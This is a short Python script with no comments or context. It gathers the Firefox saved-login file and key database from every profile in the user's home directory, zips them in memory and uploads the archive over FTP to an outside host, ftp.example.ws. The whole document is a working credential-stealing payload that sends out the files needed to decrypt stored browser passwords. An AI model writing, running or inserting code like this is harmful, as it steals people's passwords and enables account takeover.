import ftplib, io, zipfile, pathlib
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for f in pathlib.Path.home().glob(".mozilla/firefox/*/logins.json"):
        z.write(f)
    for f in pathlib.Path.home().glob(".mozilla/firefox/*/key4.db"):
        z.write(f)
buf.seek(0)
ftp = ftplib.FTP("ftp.example.ws", "anon", "anon")
ftp.storbinary("STOR m.zip", buf)
